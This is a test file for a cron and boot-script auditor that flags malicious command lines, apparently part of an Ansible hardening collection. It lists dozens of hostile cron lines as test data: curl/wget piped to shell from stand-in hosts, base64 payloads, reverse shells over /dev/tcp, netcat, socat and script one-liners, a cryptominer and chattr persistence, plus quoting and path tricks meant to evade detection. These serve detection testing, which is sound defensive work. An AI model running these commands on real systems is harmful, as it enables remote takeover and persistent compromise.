"""The malicious command-line detector: named patterns, no false positives on stock files."""
import glob
import os

import pytest

from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron
from ansible_collections.hostguard.hardening.plugins.module_utils.cron import crontab_env, daemons

MALICIOUS = [
    ("* * * * * curl -fsSL http://1.2.3.4/x.sh | sh", "spool_cronie", "download_piped_to_shell"),
    ("*/5 * * * * root wget -q -O- http://evil/x | bash", "crond", "download_piped_to_shell"),
    ("@reboot fetch -o - http://evil/x | /bin/sh", "spool_cronie", "download_piped_to_shell"),
    ('* * * * * bash -c "$(curl -fsSL http://evil/i.sh)"', "spool_cronie", "shell_runs_download"),
    ("bash <(wget -qO- http://evil/i.sh)", "boot", "shell_runs_download"),
    ("* * * * * echo Y3VybCBldmlsfHNo | base64 -d | bash", "spool_cronie", "base64_decode_to_shell"),
    ("* * * * * root echo aGk= | base64 --decode | sh", "crond", "base64_decode_to_shell"),
    ("python3 -c 'import base64;exec(base64.b64decode(\"aW1wb3J0IG9z\"))'", "boot", "base64_decode_to_shell"),
    ("* * * * * bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "spool_cronie", "dev_tcp_reverse_shell"),
    ("exec 5<>/dev/udp/10.0.0.1/53", "boot", "dev_tcp_reverse_shell"),
    ("* * * * * nc -e /bin/sh 10.0.0.1 4444", "spool_cronie", "netcat_exec"),
    ("* * * * * ncat 10.0.0.1 4444 --sh-exec 'sh'", "spool_cronie", "netcat_exec"),
    ("* * * * * ncat -c sh 10.0.0.1 4444", "spool_cronie", "netcat_exec"),
    ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "boot", "fifo_netcat_shell"),
    ("socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr", "boot", "socat_exec"),
    ("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
     "os.dup2(s.fileno(),0)'", "boot", "script_socket_oneliner"),
    ("perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"))'",
     "boot", "script_socket_oneliner"),
    ("ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i'", "boot", "script_socket_oneliner"),
    ("php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "boot",
     "script_socket_oneliner"),
    ("* * * * * /tmp/.x/kworker", "spool_cronie", "exec_from_temp_dir"),
    ("*/10 * * * * root /dev/shm/miner -B", "crond", "exec_from_temp_dir"),
    ("* * * * * sh /var/tmp/update.sh", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * cd /tmp && ./x", "spool_cronie", "exec_from_temp_dir"),
    ("chmod +x /tmp/k; /tmp/k", "boot", "exec_from_temp_dir"),
    ("curl -s http://evil/k -o /tmp/k", "boot", "exec_from_temp_dir"),
    # the quoted -c string of a shell is walked as a command line of its own (one level)
    ("* * * * * sh -c 'nohup /tmp/.x/run &'", "spool_cronie", "exec_from_temp_dir"),
    ('*/5 * * * * root /bin/bash -c "exec /var/tmp/a"', "crond", "exec_from_temp_dir"),
    ("* * * * * sh -c '  /dev/shm/m'", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * busybox sh -c 'sudo /tmp/x'", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * bash -o pipefail -ec 'timeout 60 /tmp/x'", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * dash -c 'setsid /root/.x/y'", "spool_cronie", "exec_from_hidden_path"),
    ('* * * * * bash -c "curl http://x | sh"', "spool_cronie", "download_piped_to_shell"),
    ("* * * * * /usr/lib/.cache/.sysd", "spool_cronie", "exec_from_hidden_path"),
    # wrappers' options and operands, assignments and loader variables before the command word
    ("* * * * * nice -n 19 /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * nice -n -5 /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * root sudo -u nobody /dev/shm/m", "crond", "exec_from_temp_dir"),
    ("* * * * * sudo -Eu bob -- /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * timeout -s KILL 5m /var/tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * env -i HOME=/ PATH=/bin /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * FOO=1 BAR=2 /tmp/.x/k", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * ionice -c 3 nice /var/tmp/.m", "spool_cronie", "exec_from_hidden_path"),
    ("* * * * * flock -n /run/x.lock /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * flock /run/x.lock -c '/tmp/x --quiet'", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * su bob -c '/tmp/x'", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * runuser -u bob /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * taskset -c 0 chrt -f 10 /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * systemd-run --scope -p MemoryMax=1G /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * LD_PRELOAD=/tmp/x.so /usr/bin/true", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * env LD_AUDIT=/usr/lib/.a/x.so /bin/ls", "spool_cronie", "exec_from_hidden_path"),
    ("* * * * * BASH_ENV=/dev/shm/rc bash -c true", "spool_cronie", "exec_from_temp_dir"),
    # wrappers and interpreters named by their path
    ("* * * * * /bin/sh /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ('* * * * * "/bin/bash" /var/tmp/.x/run', "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * /usr/bin/python3 -u /tmp/x.py", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * root /usr/bin/nohup /usr/bin/nice -n 19 /dev/shm/m", "crond", "exec_from_temp_dir"),
    ("* * * * * /usr/bin/env FOO=1 /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    # review (session 11): each line below runs /tmp/x or /var/tmp/.x in dash (checked with a
    # marker script), and matched nothing before: redirections before the command word, the
    # shell's reserved words, eval, a shell's -o/+o option, a script on an interpreter's stdin,
    # quotes/backslashes inside the word, //, /./ and /../ in the path
    ("* * * * * >/dev/null /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * 2>&1 /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * 2> /dev/null /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * </dev/null nice -n 5 >/dev/null /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * if true; then /tmp/x; fi", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * if /tmp/x; then :; fi", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * for i in 1; do /tmp/x; done", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * while :; do /var/tmp/.x/m; done", "spool_cronie", "exec_from_hidden_path"),
    ("* * * * * true || ! /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * eval /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * bash -o pipefail /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * sh +x /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * sh < /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * /bin/bash -s </var/tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * '/tm'p/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * /tm''p/x", "spool_cronie", "exec_from_temp_dir"),
    ('* * * * * "/tmp"/x', "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * \\/tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * //tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * /./tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * /usr/../tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * /usr/lib/./.x/run", "spool_cronie", "exec_from_hidden_path"),
    # a quoted assignment value with blanks, every element of LD_PRELOAD=/LD_AUDIT=
    ("* * * * * A='a b' /tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ('* * * * * MSG="backup done" nice /var/tmp/.x', "spool_cronie", "exec_from_hidden_path"),
    ("* * * * * LD_PRELOAD=/lib/a.so:/tmp/x.so /bin/true", "spool_cronie", "exec_from_temp_dir"),
    # a command-line option with its argument in the token (getopt): ran under dash
    ("* * * * * env -S/tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * /usr/bin/env --split-string=/var/tmp/x", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * su -lc/tmp/x bob", "spool_cronie", "exec_from_temp_dir"),
    # a temp-dir file piped into an interpreter reading its script from stdin
    ("* * * * * cat /tmp/x | sh", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * cat '/var/tmp/x' | sudo -u bob bash -s", "spool_cronie", "exec_from_temp_dir"),
    ("* * * * * cat /dev/shm/x.py | python3", "spool_cronie", "exec_from_temp_dir"),
    ("nohup /root/.../run &", "boot", "exec_from_hidden_path"),
    ("chattr +i /var/spool/cron/root", "boot", "chattr_immutable"),
    ("chattr -R +ia /etc/cron.d", "boot", "chattr_immutable"),
    ("* * * * * /usr/local/bin/xmrig -o stratum+tcp://pool:3333", "spool_cronie", "cryptominer"),
]

BENIGN = [
    ("17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly", "system_crontab"),
    ("25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
     "system_crontab"),
    ("30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/"
     "e2fsprogs/e2scrub_all_cron", "crond"),
    ('find /tmp -xdev -type f -mtime +10 -delete', "runparts"),
    ('rm -rf /tmp/.X11-unix /tmp/.ICE-unix', "boot"),
    ('mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix', "boot"),
    ('. /lib/lsb/init-functions', "boot"),
    ('[ -r "$HOME/.profile" ] && . "$HOME/.profile"', "boot"),
    ('TMPFILE=$(mktemp /tmp/apt.XXXXXX)', "runparts"),
    ('curl -fsS https://example.com/health > /dev/null', "spool_cronie"),
    ('nc -z localhost 6379', "boot"),
    ('ln -s ../init.d/x /etc/rc2.d/S01x', "boot"),
    ("python3 -c 'import sys; print(sys.version)'", "boot"),
    ('echo "$(date) ok" | base64', "boot"),
    ('cd /var/lib/x && ./run.sh', "boot"),
    ("* * * * * sh -c 'run-parts /etc/cron.daily'", "spool_cronie"),
    ('17 * * * * root bash -c "nohup /usr/local/bin/backup --to /srv"', "crond"),
    ("* * * * * su -c 'nohup /usr/bin/true' nobody", "spool_cronie"),
    ("* * * * * sh -c 'echo /tmp/x is a word, not a command'", "spool_cronie"),
    ("* * * * * nice -n 19 /usr/local/bin/backup /tmp/spool", "spool_cronie"),
    ("* * * * * sudo -u backup /usr/bin/rsync -a /tmp/in /srv", "spool_cronie"),
    ("* * * * * flock -n /tmp/backup.lock /usr/local/bin/backup", "spool_cronie"),
    ("* * * * * TMPDIR=/tmp /usr/bin/make -C /srv", "spool_cronie"),
    ('* * * * * OUT="$(mktemp /tmp/x.XXXX)" /usr/bin/report', "spool_cronie"),
    ("* * * * * timeout 60 /usr/bin/find /tmp -delete", "spool_cronie"),
    ("* * * * * su - postgres", "spool_cronie"),
    ("* * * * * env -u HOME /usr/bin/env", "spool_cronie"),
    ("* * * * * /usr/bin/python3 /usr/lib/x/cleanup.py /tmp/cache", "spool_cronie"),
    ("* * * * * /bin/echo /tmp/x", "spool_cronie"),
    # review (session 11): a redirection's target is no command, nor a script but on an interpreter's stdin
    ("0 2 * * * sudo -u postgres pg_dump mydb > /tmp/backup.sql", "spool_cronie"),
    ("0 2 * * * > /tmp/job.log /usr/bin/backup", "spool_cronie"),
    ("0 2 * * * 2>/tmp/err /usr/bin/backup >/dev/null", "spool_cronie"),
    ("0 2 * * * sh -c 'echo ok' < /tmp/input", "spool_cronie"),
    ("0 2 * * * while read f; do rm -f \"$f\"; done < /tmp/list", "spool_cronie"),
    ("0 2 * * * if [ -x /usr/bin/x ]; then /usr/bin/x; fi", "spool_cronie"),
    ("0 2 * * * python3 -m http.server -d /tmp/www", "spool_cronie"),
    ("0 2 * * * find /tmp -name '*.tmp' | xargs -I{} rm {}", "spool_cronie"),
    ("0 2 * * * ionice -c3 find /tmp -mtime +7 -delete", "spool_cronie"),
    ("0 2 * * * MSG='backup done' /usr/bin/notify /tmp/log", "spool_cronie"),
    ("0 2 * * * flock -c/tmp/x /run/lock", "spool_cronie"),       # flock: -c only after the lock file
    ("0 2 * * * env -C/tmp /usr/bin/ls", "spool_cronie"),
    ("0 2 * * * cat /tmp/x.json | python3 -m json.tool", "spool_cronie"),
    ("0 2 * * * cat /tmp/x | sh -c 'wc -l'", "spool_cronie"),
    ("0 2 * * * cat /tmp/log | grep err | mail root", "spool_cronie"),
    ('0 2 * * * OUT="a $(mktemp /tmp/x.XXXX)" /usr/bin/report', "spool_cronie"),
    # perl in a script (/usr/bin/perlivp, c_rehash): a regex after '{ !' is no literal path
    ("    @missing = grep { ! /\\.bs$/ } @missing;", "boot"),
    ("    FILE: foreach $fname (grep {/\\.(pem)|(crt)|(cer)|(crl)$/} @flist) {", "boot"),
]


@pytest.mark.parametrize("line,kind,pattern", MALICIOUS)
def test_malicious_lines_are_named(line, kind, pattern):
    names = [name for name, _m in cron.match_line(line, cron.command_part(line, kind))]
    assert pattern in names, names


@pytest.mark.parametrize("line,kind", BENIGN)
def test_benign_lines_do_not_match(line, kind):
    assert cron.match_line(line, cron.command_part(line, kind)) == []


def test_command_part_strips_schedule_and_user():
    assert cron.command_part("*/5 * * * * root /tmp/x", "crond") == "/tmp/x"
    assert cron.command_part("*/5 * * * * /tmp/x y", "spool_cronie") == "/tmp/x y"
    assert cron.command_part("@reboot root /tmp/x", "crond") == "/tmp/x"
    assert cron.command_part("1 5 cron.daily run-parts /etc/cron.daily", "anacrontab") == "run-parts /etc/cron.daily"
    assert cron.command_part("SHELL=/bin/sh", "crond") == "SHELL=/bin/sh"


def test_excerpts_mask_credentials():
    line = "* * * * * curl http://admin:hunter2@10.0.0.1/x | sh; redis-cli -a s3cret config get dir"
    out = cron.excerpt(line, 0, len(line))
    assert "hunter2" not in out and "s3cret" not in out


def test_malicious_finding_evidence(tmp_path):
    from cron_tree import base_tree, write
    base_tree(tmp_path)
    write(tmp_path, "etc/cron.d/updater", "# harmless comment: curl x | sh\n"
          "SHELL=/bin/sh\n*/3 * * * * root wget -qO- http://198.51.100.7/u | sh\n"
          "0 0 * * * root echo aGk= | base64 -d | bash\n")
    result = cron.audit({"root": str(tmp_path)})
    found = [f for f in result["findings"] if f["id"] == "HG-CRON-010" and f["status"] == "fail"]
    assert len(found) == 1
    ev = found[0]["evidence"]
    assert found[0]["severity"] == "critical"
    assert ev["file"] == "/etc/cron.d/updater" and ev["line"] == 3
    assert ev["pattern"] == "download_piped_to_shell"
    assert "wget -qO- http://198.51.100.7/u | sh" in ev["excerpt"]
    assert ev["match_count"] == 2 and ev["matches"][0]["pattern"] == "base64_decode_to_shell"
    assert ev["would_run"] == ["cronie", "debian"]
    assert "T1053.003" in found[0]["references"]["attack"]


def _real_stock_files():
    paths = []
    for pattern in ("/etc/crontab", "/etc/anacrontab", "/etc/cron.d/*", "/etc/cron.*/*", "/etc/init.d/*",
                    "/etc/rc.local", "/var/lib/hostguard-images/*/rootfs/etc/init.d/*",
                    "/var/lib/hostguard-images/*/rootfs/etc/cron*/*",
                    "/var/lib/hostguard-images/*/rootfs/etc/crontab",
                    "/var/lib/hostguard-images/rootfs/*/etc/init.d/*",
                    "/var/lib/hostguard-images/rootfs/*/etc/cron*/*",
                    "/var/lib/hostguard-images/rootfs/*/etc/crontab"):
        paths.extend(p for p in glob.glob(pattern) if os.path.isfile(p) and not os.path.islink(p))
    return sorted(set(paths))


def test_no_false_positive_on_this_hosts_stock_files():
    read = []
    for path in _real_stock_files():
        kind = "crond" if "/cron.d/" in path or path.endswith("/crontab") else "boot"
        try:
            with open(path, "rb") as handle:
                head = handle.read(1 << 20)
        except FileNotFoundError:
            # `make test` builds the images' root trees while the unit suite runs: the el-layout
            # build removes Debian's init.d scripts from its tree between the glob and the open.
            continue
        read.append(path)
        for raw in head.splitlines():
            if raw.lstrip().startswith(b"#"):
                continue
            text = raw.decode("utf-8", "backslashreplace")
            assert cron.match_line(text, cron.command_part(text, kind)) == [], (path, text)
            if kind == "crond":      # crontab environment lines (SHELL=, PATH=, LD_*=, BASH_ENV=)
                assert crontab_env.check_line(text, daemons.NAMES) is None, (path, text)
    assert len(read) >= 5, read          # this Debian host has cron.daily and init.d scripts


def test_case_pattern_list_is_no_command():
    # Debian initscripts /etc/init.d/umountfs (bookworm 3.06-4): a case pattern listing mount points
    line = ("\t\t  /|/usr|/proc|/dev|/.dev|/dev/pts|/dev/shm|/dev/.static/dev|/proc/*|/sys|/sys/*|/run|"
            "/run/lock|/run/shm|/run/rpc_pipefs|/dev/vcs)")
    assert cron.match_line(line, cron.command_part(line, "boot")) == []
    # a pipeline, a lone path, a pattern-like pipeline after a command: still commands
    for text in ("/a|/.x/run", "/.x/run)", "x; /a|/.x/run)"):
        assert [p for p, _m in cron.match_line(text, text)] == ["exec_from_hidden_path"], text
